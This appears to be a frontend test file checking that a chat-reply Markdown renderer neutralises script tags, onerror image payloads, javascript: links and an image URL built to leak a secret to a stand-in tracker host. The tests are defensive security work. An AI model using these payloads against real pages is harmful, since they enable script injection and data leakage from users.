// @vitest-environment happy-dom
import { cleanup, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, describe, expect, it, vi } from "vitest";
import { ReplyMarkdown } from "./ReplyMarkdown";

afterEach(cleanup);

/** Renders a reply and waits until its Markdown has been formatted. */
async function renderReply(text: string) {
  const view = render(<ReplyMarkdown text={text} />);
  await waitFor(() => expect(view.container.querySelector("[data-formatted]")).not.toBeNull());
  return view;
}

describe("ReplyMarkdown", () => {
  it("shows HTML in a reply as text: no image, no script, nothing runs", async () => {
    const alert = vi.fn();
    vi.stubGlobal("alert", alert);
    const { container } = await renderReply(
      'Look: <img src=x onerror=alert(1)> and <script>alert("hi")</script> done',
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("[onerror]")).toBeNull();
    expect(container.textContent).toContain("<img src=x onerror=alert(1)>");
    expect(container.textContent).toContain('<script>alert("hi")</script>');
    expect(alert).not.toHaveBeenCalled();
    vi.unstubAllGlobals();
  });

  it("renders Markdown: emphasis, lists, GFM tables and strikethrough", async () => {
    const { container } = await renderReply(
      "**bold** and ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    );
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("del")?.textContent).toBe("gone");
    expect(screen.getAllByRole("listitem").map((li) => li.textContent)).toEqual(["one", "two"]);
    expect(screen.getByRole("table")).toBeTruthy();
  });

  it("opens web links in a new tab that cannot reach back, and drops script links", async () => {
    const { container } = await renderReply(
      "[docs](https://example.com/docs) [trap](javascript:alert(1)) [local](/settings)",
    );
    const link = screen.getByRole("link", { name: "docs" });
    expect(link.getAttribute("href")).toBe("https://example.com/docs");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    // The unsafe ones keep their words but are no longer links.
    expect(screen.getAllByRole("link")).toHaveLength(1);
    expect(container.textContent).toContain("trap");
    expect(container.textContent).toContain("local");
    expect(container.innerHTML).not.toContain("javascript:");
  });

  it("never loads a Markdown image: it becomes a link to it", async () => {
    const { container } = await renderReply("![a cat](https://tracker.example/leak?q=secret)");
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: "Image: a cat" });
    expect(link.getAttribute("href")).toBe("https://tracker.example/leak?q=secret");
  });

  it("gives a code block a Copy code button that puts exactly the code on the clipboard", async () => {
    const user = userEvent.setup();
    // After setup: user-event installs its own clipboard, which this replaces.
    const writeText = vi.fn(async (_text: string) => {});
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    await renderReply("Run this:\n\n```sh\nnpm test\nnpm run build\n```\n");

    expect(screen.getByText("sh")).toBeTruthy();
    await user.click(screen.getByRole("button", { name: "Copy code" }));

    expect(writeText).toHaveBeenCalledWith("npm test\nnpm run build");
    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
  });

  it("says so when the clipboard refuses", async () => {
    const user = userEvent.setup();
    const writeText = vi.fn(async () => {
      throw new Error("denied");
    });
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    await renderReply("```\nx\n```");
    await user.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await screen.findByRole("button", { name: "Copy failed" })).toBeTruthy();
  });

  it("starts a reply's headings at h3, under the page's h1 and the panel's h2", async () => {
    await renderReply("# Big\n\n## Smaller");
    expect(screen.getByRole("heading", { name: "Big" }).tagName).toBe("H3");
    expect(screen.getByRole("heading", { name: "Smaller" }).tagName).toBe("H4");
  });

  it("highlights a Python block's tokens after drawing it, keeping its text and copy", async () => {
    const code = 'def greet(name):\n    return "hi " + name  # say it';
    const { container } = await renderReply(`\`\`\`python\n${code}\n\`\`\``);
    // The highlighter is a chunk of its own: loading it takes a moment under a busy test run.
    await waitFor(() => expect(container.querySelector("pre .hljs-keyword")).not.toBeNull(), {
      timeout: 5000,
    });
    expect(container.querySelector("pre .hljs-keyword")?.textContent).toBe("def");
    expect(container.querySelector("pre .hljs-string")?.textContent).toBe('"hi "');
    expect(container.querySelector("pre .hljs-comment")?.textContent).toBe("# say it");
    expect(container.querySelector("pre")?.textContent).toBe(code);
  });

  it("leaves a block in a language it does not know plain", async () => {
    const { container } = await renderReply("```brainfudge\ndef x\n```");
    // The highlighter has had its turn: a known block after it is highlighted.
    const later = await renderReply("```py\nimport os\n```");
    await waitFor(() => expect(later.container.querySelector(".hljs-keyword")).not.toBeNull(), {
      timeout: 5000,
    });
    expect(container.querySelector("pre [class^='hljs']")).toBeNull();
    expect(container.querySelector("pre")?.textContent).toBe("def x\n");
  });
});
